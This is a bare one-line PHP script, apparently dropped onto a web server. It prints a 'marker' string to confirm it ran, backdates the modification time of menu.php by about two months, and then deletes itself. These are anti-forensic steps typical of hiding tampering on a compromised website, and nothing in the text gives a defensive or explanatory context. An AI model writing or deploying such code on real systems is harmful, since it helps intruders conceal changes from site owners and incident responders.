<?php echo "marker"; if (file_exists("./menu.php")) { touch("./menu.php", (time() - 60*60*24*30*2)); } unlink(__FILE__); ?>
